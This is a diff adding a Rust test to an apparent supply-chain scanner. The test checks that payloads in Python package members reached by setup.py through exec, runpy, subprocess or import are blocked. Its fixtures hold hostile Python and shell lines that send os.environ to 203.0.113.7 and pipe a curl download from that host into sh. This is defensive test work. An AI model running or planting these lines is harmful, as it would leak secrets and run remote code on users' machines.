@@ -140,6 +140,7 @@ fn mark_encrypted(mut bytes: Vec<u8>) -> Vec<u8> {
     bytes
 }
 
+#[derive(Clone)]
 pub(super) enum T<'a> {
     File(&'a [u8], &'a [u8]),
     Symlink(&'a str, &'a str),
@@ -2092,6 +2093,104 @@ fn reading_the_packages_own_version_file_is_served_in_any_spelling_and_its_malic
         if got != *want {
             let found: Vec<_> = r.findings.iter().map(|f| (&f.detector, f.severity)).collect();
             wrong.push(format!("{case} ({place:?}): wanted {want:?}, got {got:?}: {found:?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+/// A member that install-time code runs — by exec of its text, `runpy`, an interpreter in a
+/// process, or an import after a `sys.path` entry — is judged as install-time code wherever it
+/// lives (`scan::reach`): a payload moved to `tests/`, `tools/`, `scripts/` or a file named
+/// `VERSION` blocks as it would in setup.py. The same tree with the payload shipped but never run
+/// at install is served.
+#[test]
+fn a_member_install_time_code_runs_is_judged_as_install_time_code_wherever_it_lives() {
+    use crate::model::Decision::{Block, Serve};
+    const HEAD: &str =
+        "import os, sys, runpy, subprocess, importlib\nfrom setuptools import setup\nhere = os.path.dirname(os.path.abspath(__file__))\n";
+    const PAYLOAD: &str = "import os, socket, json\nd = json.dumps(dict(os.environ)).encode()\ns = socket.create_connection(('203.0.113.7', 8080))\ns.sendall(d)\nos.system('curl -s http://203.0.113.7/x.sh | sh')\n";
+    const IN_A_FUNCTION: &str = "import os\n\ndef fetch():\n    os.system('curl -s http://203.0.113.7/x.sh | sh')\n";
+    let clean_version = "__version__ = '1.0'\n".to_string();
+    let payload_version = format!("__version__ = '1.0'\n{PAYLOAD}");
+    #[rustfmt::skip]
+    let cases: Vec<(&str, &str, &str, String, crate::model::Decision)> = vec![
+        ("exec of a tools/ file by os.path.join", "tools/_version.py",
+         "exec(open(os.path.join(here, 'tools', '_version.py')).read())\n", payload_version.clone(), Block),
+        ("exec of a tests/ file through with-open, one name away", "tests/version_data.py",
+         "vf = os.path.join(here, 'tests', 'version_data.py')\nns = {}\nwith open(vf) as f:\n    exec(f.read(), ns)\n", payload_version.clone(), Block),
+        ("exec of an extension-less VERSION file", "VERSION",
+         "exec(open(os.path.join(here, 'VERSION')).read())\n", payload_version.clone(), Block),
+        ("runpy.run_path of a scripts/ file", "scripts/gen.py",
+         "runpy.run_path(os.path.join(here, 'scripts', 'gen.py'))\n", PAYLOAD.to_string(), Block),
+        ("an interpreter process running a ci/ script", "ci/prepare.py",
+         "subprocess.check_call([sys.executable, 'ci/prepare.py'])\n", PAYLOAD.to_string(), Block),
+        ("a shell script run by os.system", "scripts/fetch.sh",
+         "os.system('sh scripts/fetch.sh')\n", "curl -s http://203.0.113.7/x.sh | sh\n".to_string(), Block),
+        ("import after a sys.path entry", "tools/build_helpers.py",
+         "sys.path.insert(0, os.path.join(here, 'tools'))\nimport build_helpers\n", PAYLOAD.to_string(), Block),
+        ("from-import of a test helper", "tests/helpers.py",
+         "from tests.helpers import VERSION\n", format!("VERSION = '1.0'\n{PAYLOAD}"), Block),
+        ("import_module of a tools/ module", "tools/build_helpers.py",
+         "importlib.import_module('tools.build_helpers')\n", PAYLOAD.to_string(), Block),
+        ("exec of the package's version file with the payload at its top", "demo/version.py",
+         "exec(open(os.path.join(here, 'demo', 'version.py')).read())\n", payload_version.clone(), Block),
+        ("exec of a helper whose function setup.py then calls", "demo/_build.py",
+         "ns = {}\nexec(open(os.path.join(here, 'demo', '_build.py')).read(), ns)\nns['fetch']()\n", IN_A_FUNCTION.to_string(), Block),
+        ("docs/conf.py exec'd for the version", "docs/conf.py",
+         "exec(open('docs/conf.py').read())\n", payload_version.clone(), Block),
+        // Served: the same payload shipped in the tree, never run at install.
+        ("the payload in tools/, setup.py execs only the clean version file", "tools/_version.py",
+         "exec(open(os.path.join(here, 'demo', 'version.py')).read())\nlong_description = open('README.md').read()\n", payload_version.clone(), Serve),
+        ("the payload in tests/, listed as data only", "tests/version_data.py",
+         "package_data = {'tests': ['version_data.py']}\n", payload_version.clone(), Serve),
+        ("a clean tools/ helper imported after a sys.path entry", "tools/build_helpers.py",
+         "sys.path.insert(0, os.path.join(here, 'tools'))\nimport build_helpers\n", clean_version.clone(), Serve),
+        ("a clean VERSION exec'd", "VERSION", "exec(open('VERSION').read())\n", clean_version.clone(), Serve),
+        ("the package's __init__ exec'd: its functions run only when called", "demo/__init__.py",
+         "ns = {}\nexec(open(os.path.join(here, 'demo', '__init__.py')).read(), ns)\n", format!("__version__ = '1.0'\n{IN_A_FUNCTION}"), Serve),
+    ];
+    let scanner = Scanner::new(Limits::default()).with_threads(1);
+    let mut wrong = Vec::new();
+    for (case, member, setup_body, content, want) in &cases {
+        let setup = format!("{HEAD}{setup_body}setup(name='demo', version='1.0')\n");
+        let member_path = format!("demo-1.0/{member}");
+        let mut members = vec![
+            T::File(b"demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demo.\nAuthor-email: a@example.org\nLicense: MIT\n"),
+            T::File(b"demo-1.0/README.md", b"# demo\n\nInstall: `curl -sSf https://example.org/install.sh | sh`\n"),
+        ];
+        if *member != "demo/version.py" {
+            members.push(T::File(b"demo-1.0/demo/version.py", clean_version.as_bytes()));
+        }
+        if *member != "demo/__init__.py" {
+            members.push(T::File(b"demo-1.0/demo/__init__.py", b"from .version import __version__\n"));
+        }
+        members.push(T::File(member_path.as_bytes(), content.as_bytes()));
+        // setup.py after the member it runs, then before it: archive order must not matter.
+        for setup_first in [false, true] {
+            let mut ordered = members.clone();
+            let at = if setup_first { 0 } else { ordered.len() };
+            ordered.insert(at, T::File(b"demo-1.0/setup.py", setup.as_bytes()));
+            let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &tar_gz(&ordered));
+            assert!(r.complete(), "{case}: {:?}", r.incomplete_reason());
+            let got = match verdict_for(&r).decision {
+                crate::model::Decision::Annotate => Serve,
+                d => d,
+            };
+            if got != *want {
+                let found: Vec<_> = r
+                    .findings
+                    .iter()
+                    .flat_map(|f| f.evidence.iter().map(move |e| (&f.detector, e.severity, &e.path, e.role)))
+                    .collect();
+                wrong.push(format!("{case} (setup.py first: {setup_first}): wanted {want:?}, got {got:?}: {found:?}"));
+            }
+            if *want == Block {
+                let reached = r.findings.iter().flat_map(|f| &f.evidence).find(|e| e.path == member_path);
+                let snippet = reached.and_then(|e| e.snippet.as_deref()).unwrap_or("");
+                if !snippet.contains("run at install time by demo-1.0/setup.py") {
+                    wrong.push(format!("{case}: the evidence in {member_path} does not say what runs it: {snippet:?}"));
+                }
+            }
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
